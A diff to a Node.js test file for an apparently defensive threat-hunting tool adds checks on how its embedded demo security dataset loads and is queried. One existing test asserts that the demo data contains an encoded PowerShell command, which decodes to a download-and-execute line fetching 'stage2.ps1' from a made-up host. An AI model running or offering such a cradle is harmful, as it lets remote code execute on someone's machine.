@@ -1,11 +1,20 @@
 // The embedded demo data set: every table there, newest event now, and the attack story findable.
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { loadHuntbook } from "./helpers.mjs";
+import fs from "node:fs";
+import path from "node:path";
+import { loadHuntbook, dist } from "./helpers.mjs";
 
 const hb = await loadHuntbook();
 const NOW = Date.UTC(2026, 10, 29, 12, 0, 0);
-const demo = hb.loadDemo({ now: NOW });
+// Before any loadDemo(): QueryProvider("LocalData") without data says what to do (checked in the test below).
+let before = null;
+try {
+  new hb.QueryProvider("LocalData");
+} catch (e) {
+  before = e;
+}
+const demo = await hb.loadDemo({ now: NOW });
 
 test("the demo workspace has the Sentinel tables", () => {
   for (const t of ["SigninLogs", "SecurityAlert", "SecurityEvent", "OfficeActivity", "Syslog", "AzureActivity",
@@ -54,4 +63,23 @@ test("the encoded PowerShell download is in SecurityEvent", () => {
   const b64 = encoded.split(/\s+/).pop();
   const text = Buffer.from(b64, "base64").toString("utf16le");
   assert.equal(text, "IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')");
+});
+
+test("the demo data is the file beside the wasm, and QueryProvider(\"LocalData\") needs loadDemo() first", async () => {
+  assert.match(String(before), /call `await huntbook\.loadDemo\(\)` first/);
+  // The same tables come from the file given by path (read from disk), from bytes' URL, and by default.
+  const file = path.join(dist, "huntbook_demo.la.json.gz");
+  assert.ok(fs.statSync(file).size > 1_000_000);
+  const again = await hb.loadDemo({ now: NOW, url: new URL(`file://${file}`) });
+  assert.deepEqual(again.tables, demo.tables);
+  assert.equal(again.table("SecurityEvent").numRows, demo.table("SecurityEvent").numRows);
+  await assert.rejects(hb.loadDemo({ url: new URL(`file://${path.join(dist, "no-such-file.json.gz")}`) }), /ENOENT|no such file/);
+  // A provider queries a copy of the last loaded tables: its addTable leaves `demo` as it was.
+  const qp = new hb.QueryProvider("LocalData");
+  assert.deepEqual(await qp.schemaTables(), demo.tables);
+  qp.addTable("Extra", demo.table("Heartbeat").head(1));
+  assert.ok((await qp.schemaTables()).includes("Extra"));
+  assert.ok(!demo.tables.includes("Extra"));
+  const newest = await qp.execQuery("Heartbeat | summarize max(TimeGenerated)");
+  assert.ok(newest.row(0).max_TimeGenerated.getTime() <= NOW);
 });
